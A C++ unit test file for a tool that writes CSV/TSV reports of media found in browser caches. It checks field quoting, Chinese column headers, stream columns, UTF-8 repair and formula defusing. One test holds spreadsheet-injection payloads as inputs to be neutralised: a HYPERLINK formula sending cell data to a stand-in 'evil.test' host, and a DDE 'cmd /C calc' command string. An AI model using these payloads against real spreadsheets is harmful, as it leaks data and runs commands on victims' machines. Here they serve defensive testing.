// The report as spreadsheet programs read it: quoting of both kinds, the
// header, the rows' fields, and text repaired to UTF-8.
#include <gtest/gtest.h>

#include "app/command_line/scan_report.h"
#include "runtime/core/text_encoding.h"

namespace {

std::string Utf8(std::u8string_view text) { return std::string(text.begin(), text.end()); }

std::vector<std::string> Lines(const std::string& text) {
  std::vector<std::string> lines;
  std::size_t start = 0;
  for (std::size_t end; (end = text.find("\r\n", start)) != std::string::npos; start = end + 2)
    lines.push_back(text.substr(start, end - start));
  EXPECT_EQ(start, text.size()) << "the last line ends with CRLF";
  return lines;
}

ReportRow SampleRow() {
  ReportRow row;
  row.webAddress = "http://a.test/v.mp4?x=1,2";
  row.mediaType = "video/mp4";
  row.extension = "mp4";
  row.mediaClass = ReportClass::Video;
  row.fullLength = 1234567;
  row.presentBytes = 1234567;
  row.complete = true;
  row.browser = "Chromium";
  row.cacheFolder = Utf8(u8"C:\\用户\\Cache_Data");
  row.lastWritten = ReportTime{2026, 1, 2, 3, 4, 5};
  row.facts.seconds = 83.5;
  row.facts.width = 1280;
  row.facts.height = 720;
  row.facts.codecs = "H.264 / AAC";
  return row;
}

}  // namespace

TEST(ScanReport, QuotesFieldsAsSpreadsheetsExpect) {
  const auto comma = ReportSeparator::Comma;
  const auto tab = ReportSeparator::Tab;
  EXPECT_EQ(ReportFieldQuoted("plain text", comma), "plain text");
  EXPECT_EQ(ReportFieldQuoted("", comma), "");
  EXPECT_EQ(ReportFieldQuoted("a,b", comma), "\"a,b\"");
  EXPECT_EQ(ReportFieldQuoted("say \"hi\"", comma), "\"say \"\"hi\"\"\"");
  EXPECT_EQ(ReportFieldQuoted("two\r\nlines", comma), "\"two\r\nlines\"");
  EXPECT_EQ(ReportFieldQuoted("lf\nonly", comma), "\"lf\nonly\"");
  EXPECT_EQ(ReportFieldQuoted("a\tb", comma), "a\tb");
  // Tab-separated: a comma is plain, a tab is what needs quotes.
  EXPECT_EQ(ReportFieldQuoted("a,b", tab), "a,b");
  EXPECT_EQ(ReportFieldQuoted("a\tb", tab), "\"a\tb\"");
  EXPECT_EQ(ReportFieldQuoted("\"", tab), "\"\"\"\"");
  EXPECT_EQ(ReportFieldQuoted("x\ry", tab), "\"x\ry\"");
}

TEST(ScanReport, WholeFileHasMarkHeaderAndOneLinePerRow) {
  ReportRow partial = SampleRow();
  partial.webAddress = "http://a.test/s.mp3";
  partial.mediaType = "audio/mpeg";
  partial.extension = "mp3";
  partial.mediaClass = ReportClass::Audio;
  partial.fullLength.reset();
  partial.presentBytes = 99;
  partial.complete = false;
  partial.lastWritten.reset();
  partial.facts = MediaFacts{};  // sound: no picture size
  partial.facts.seconds = 3.25;
  partial.facts.codecs = "MP3";
  // A stream: its segment counts in columns of their own, after a file's.
  ReportRow stream = SampleRow();
  stream.webAddress = "http://a.test/hls/index.m3u8";
  stream.mediaType = "video/mp2t";
  stream.extension = "ts";
  stream.fullLength.reset();
  stream.presentBytes = 4000;
  stream.complete = false;
  stream.stream = ReportStream{ReportStreamKind::Hls, 3, 8, false};
  ReportRow encrypted = stream;
  encrypted.stream = ReportStream{ReportStreamKind::Dash, 8, 8, true};
  encrypted.complete = true;
  ReportRow group = stream;
  group.stream = ReportStream{ReportStreamKind::Segments, 2, 2, false};
  const std::string text =
      ReportText({SampleRow(), partial, stream, encrypted, group}, ReportSeparator::Comma);
  ASSERT_EQ(text.substr(0, 3), "\xEF\xBB\xBF");
  const std::vector<std::string> lines = Lines(text.substr(3));
  ASSERT_EQ(lines.size(), 6u);
  EXPECT_EQ(lines[0], Utf8(u8"网址,媒体类型,扩展名,类别,完整长度,已有字节,完整,浏览器,缓存目录,最后写入时间,"
                           u8"流,已有分段,分段总数,加密,截断,合成,时长（秒）,分辨率,编码"));
  EXPECT_EQ(lines[1], Utf8(u8"\"http://a.test/v.mp4?x=1,2\",video/mp4,mp4,视频,1234567,1234567,是,Chromium,"
                           u8"C:\\用户\\Cache_Data,2026-01-02 03:04:05,,,,,,,83.500,1280x720,H.264 / AAC"));
  EXPECT_EQ(lines[2],
            Utf8(u8"http://a.test/s.mp3,audio/mpeg,mp3,音频,,99,否,Chromium,C:\\用户\\Cache_Data,,,,,,,,3.250,,MP3"));
  EXPECT_EQ(lines[3], Utf8(u8"http://a.test/hls/index.m3u8,video/mp2t,ts,视频,,4000,否,Chromium,"
                           u8"C:\\用户\\Cache_Data,2026-01-02 03:04:05,HLS,3,8,否,否,,83.500,1280x720,H.264 / AAC"));
  EXPECT_EQ(lines[4], Utf8(u8"http://a.test/hls/index.m3u8,video/mp2t,ts,视频,,4000,是,Chromium,"
                           u8"C:\\用户\\Cache_Data,2026-01-02 03:04:05,DASH,8,8,是,否,,83.500,1280x720,H.264 / AAC"));
  EXPECT_EQ(lines[5], Utf8(u8"http://a.test/hls/index.m3u8,video/mp2t,ts,视频,,4000,否,Chromium,"
                           u8"C:\\用户\\Cache_Data,2026-01-02 03:04:05,分段,2,2,否,否,,83.500,1280x720,H.264 / AAC"));

  const std::vector<std::string> tabbed = Lines(ReportText({SampleRow()}, ReportSeparator::Tab).substr(3));
  ASSERT_EQ(tabbed.size(), 2u);
  EXPECT_EQ(tabbed[1],
            Utf8(u8"http://a.test/v.mp4?x=1,2\tvideo/mp4\tmp4\t视频\t1234567\t1234567\t是\tChromium\t"
                 u8"C:\\用户\\Cache_Data\t2026-01-02 03:04:05\t\t\t\t\t\t\t83.500\t1280x720\tH.264 / AAC"));
  // No rows: the header alone.
  EXPECT_EQ(Lines(ReportText({}, ReportSeparator::Tab).substr(3)).size(), 1u);
}

TEST(ScanReport, TimesAndForeignBytes) {
  EXPECT_EQ(ReportTimeText({1999, 12, 31, 23, 59, 9}), "1999-12-31 23:59:09");
  EXPECT_EQ(Utf8Repaired("plain"), "plain");
  EXPECT_EQ(Utf8Repaired(Utf8(u8"中文")), Utf8(u8"中文"));
  // GBK bytes, a cut sequence, an overlong form and a surrogate each become U+FFFD.
  EXPECT_EQ(Utf8Repaired("\xD6\xD0"), "\xEF\xBF\xBD\xEF\xBF\xBD");
  EXPECT_EQ(Utf8Repaired("a\xE4\xB8"), "a\xEF\xBF\xBD\xEF\xBF\xBD");
  EXPECT_EQ(Utf8Repaired("\xC0\xAF"), "\xEF\xBF\xBD\xEF\xBF\xBD");
  EXPECT_EQ(Utf8Repaired("\xED\xA0\x80"), "\xEF\xBF\xBD\xEF\xBF\xBD\xEF\xBF\xBD");
  ReportRow row = SampleRow();
  row.webAddress = "http://a.test/\xFF.mp4";
  EXPECT_NE(ReportText({row}, ReportSeparator::Comma).find("http://a.test/\xEF\xBF\xBD.mp4"),
            std::string::npos);
}

namespace {

// The fields of the report's second line (the first row), split on the separator outside quotes.
std::vector<std::string> FirstRowFields(const std::string& text, char separator) {
  const std::vector<std::string> lines = Lines(text);
  std::vector<std::string> fields(1);
  bool quoted = false;
  for (const char c : lines.at(1)) {
    if (c == '"') quoted = !quoted;
    if (c == separator && !quoted) {
      fields.emplace_back();
    } else {
      fields.back() += c;
    }
  }
  return fields;
}

TEST(ScanReport, NoFieldIsAFormulaAndMediaTypesKeepTokenCharacters) {
  ReportRow row = SampleRow();
  row.webAddress = "=HYPERLINK(\"https://evil.test/?\"&A1,\"open\")";
  row.mediaType = "=HYPERLINK(\"https://evil.test/?\"&A1,\"open\")";
  row.browser = "+cmd|' /C calc'!A0";
  row.cacheFolder = "@SUM(1+1)";
  row.extension = "-2+3";
  row.facts.codecs = "=1+1";  // a codec name is read from the media's own bytes
  for (const ReportSeparator separator : {ReportSeparator::Comma, ReportSeparator::Tab}) {
    const std::vector<std::string> fields =
        FirstRowFields(ReportText({row}, separator), static_cast<char>(separator));
    ASSERT_EQ(fields.size(), 19u);
    for (const std::string& field : fields) {
      // Unquoted as a spreadsheet reads it.
      std::string value = field;
      if (value.size() >= 2 && value.front() == '"') value = value.substr(1, value.size() - 2);
      if (value.empty()) continue;
      EXPECT_EQ(std::string_view("=+-@\t\r").find(value.front()), std::string_view::npos) << value;
    }
    EXPECT_EQ(fields[0].substr(0, 3), "\"'=");
    EXPECT_EQ(fields[1], "HYPERLINKhttps/evil.test&A1open");  // no quotes, brackets, commas or "="
    EXPECT_EQ(fields[2], "'-2+3");
    EXPECT_EQ(fields[7], "'+cmd|' /C calc'!A0");
    EXPECT_EQ(fields[8], "'@SUM(1+1)");
    EXPECT_EQ(fields[18], "'=1+1");
  }
  // Leading tab and carriage return too; others untouched.
  EXPECT_EQ(ReportFieldDefused("\tx"), "'\tx");
  EXPECT_EQ(ReportFieldDefused("\rx"), "'\rx");
  EXPECT_EQ(ReportFieldDefused("http://a.test/=1"), "http://a.test/=1");
  EXPECT_EQ(ReportFieldDefused(""), "");

  EXPECT_EQ(ReportMediaTypeCleaned("video/mp4"), "video/mp4");
  EXPECT_EQ(ReportMediaTypeCleaned("application/vnd.apple.mpegurl; charset=\"utf-8\""),
            "application/vnd.apple.mpegurl");
  EXPECT_EQ(ReportMediaTypeCleaned("video/mp4\r\n=1+1"), "video/mp41+1");
  EXPECT_EQ(ReportMediaTypeCleaned("mp4"), "");
  EXPECT_EQ(ReportMediaTypeCleaned("=/"), "");
}

TEST(ScanReport, CutShortStreamsSaySo) {
  ReportRow row = SampleRow();
  row.stream = ReportStream{ReportStreamKind::Hls, 1, 100000, false, true};
  const std::vector<std::string> fields = FirstRowFields(ReportText({row}, ReportSeparator::Comma), ',');
  ASSERT_EQ(fields.size(), 19u);
  EXPECT_EQ(fields[14], Utf8(u8"是"));
  row.stream->cutShort = false;
  EXPECT_EQ(FirstRowFields(ReportText({row}, ReportSeparator::Comma), ',')[14], Utf8(u8"否"));
  row.stream.reset();
  EXPECT_EQ(FirstRowFields(ReportText({row}, ReportSeparator::Comma), ',')[14], "");
}

TEST(ScanReport, PartnerFollowsTheStreamColumnsOfFilesAndStreams) {
  ReportRow row = SampleRow();
  row.partner = Utf8(u8"音频：https://a.test/m.mpd（a1）");
  std::vector<std::string> fields = FirstRowFields(ReportText({row}, ReportSeparator::Tab), '\t');
  ASSERT_EQ(fields.size(), 19u);
  EXPECT_EQ(fields[15], row.partner);
  EXPECT_EQ(fields[10], "");
  row.stream = ReportStream{ReportStreamKind::Dash, 3, 3, false, false};
  fields = FirstRowFields(ReportText({row}, ReportSeparator::Comma), ',');
  ASSERT_EQ(fields.size(), 19u);
  EXPECT_EQ(fields[10], "DASH");
  EXPECT_EQ(fields[14], Utf8(u8"否"));
  EXPECT_EQ(fields[15], row.partner);
  row.partner.clear();
  EXPECT_EQ(FirstRowFields(ReportText({row}, ReportSeparator::Comma), ',')[15], "");
}

}  // namespace
